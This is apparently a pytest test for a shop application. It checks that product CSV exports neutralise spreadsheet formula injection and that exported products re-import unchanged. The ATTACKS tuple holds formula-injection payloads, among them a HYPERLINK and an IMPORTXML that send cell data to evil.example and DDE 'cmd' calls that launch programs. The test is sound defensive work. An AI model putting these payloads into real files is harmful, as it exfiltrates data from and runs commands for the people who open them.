"""Row 32: no cell of an export begins as a formula does, in any spreadsheet; and what was exported comes in again as it was."""

import csv
import io
import random

import pytest

from payme.features.catalog.schemas import CreateProduct
from payme.features.catalog.services.create_product import create_product
from payme.features.catalog.services.exchange_products import export_products, import_products
from tests.fault_rows import FaultRow
from tests.shop import Shop

pytestmark = pytest.mark.fault_row(32)
TRIGGERS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
"""What a spreadsheet begins a formula, a link or a command with; the wide forms are read as the narrow ones."""
ATTACKS = (
    '=HYPERLINK("http://evil.example?x="&A1,"Chai")', "=cmd|' /C calc'!A0", "+1+cmd|'/C calc'!A0", "-2+3", "@SUM(1+9)*cmd|'/C'!A0",
    "=1+1", "\uff1d1+1", "\uff0b254711000100", "\uff0d5", "\uff20here", "'=1+1", "''=1+1", "'''@x", "'", "''", "'Chai'", "'-'", "-", "+", "=", "@",
    "= 1", "Chai\n=1+1", 'Chai","=1+1', "Chai;=1+1", '=IMPORTXML(CONCAT("http://evil.example/", A1), "//a")',
    '"=1+1"', "%0A=1+1", "\u200b=1+1", "\u202e=1+1", "=\u00a01",
)  # fmt: skip


def hostile(rng: random.Random) -> str:
    """Return a text that somebody made to be run, or that only looks like it."""
    if rng.random() < 0.4:
        return rng.choice(ATTACKS)
    letters = TRIGGERS + "'\"',;| \nChai0123é茶"
    return "".join(rng.choice(letters) for _ in range(rng.randrange(1, 30)))


def cells_of(table: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(table, newline=""), strict=True))


async def test_no_cell_of_an_export_is_a_formula_and_every_product_comes_back(
    shop: Shop, other_shop: Shop, row: FaultRow
):
    rng = row.rng
    made: list[CreateProduct] = []
    for number in range(row.size(60, 500)):
        texts = {"name": hostile(rng), "unit": hostile(rng)[:16], "category": hostile(rng)[:40]}
        kept = {name: text for name, text in texts.items() if text.strip()}
        kept |= {"barcode": f"-{number:03d}"} if rng.random() < 0.2 else {}
        wanted = {"name": "Chai", "sku": f"{rng.choice(TRIGGERS)}{number}", **kept}
        made.append(CreateProduct.model_validate({**wanted, "price_cents": 100}))
        row.counts["sent"] += 1

    async def put(uow: object) -> None:
        for product in made:
            await create_product(uow, product)  # type: ignore[arg-type]  # the shop gives a unit of work

    await shop.run(put)
    table = await shop.run(export_products)
    rows = cells_of(table)
    assert len(rows) == len(made) + 1
    assert [cell for line in rows for cell in line if cell.startswith(tuple(TRIGGERS))] == []

    report = await other_shop.run(lambda uow: import_products(uow, table.encode(), dry_run=False))
    assert (report.imported, report.errors) == (len(made), [])
    sql = "select sku, name, unit, category, price_cents from products where business_id = $1 order by sku"
    assert await other_shop.rows(sql) == await shop.rows(sql)
    assert await other_shop.run(export_products) == table
    row.counts["applied"] += report.imported
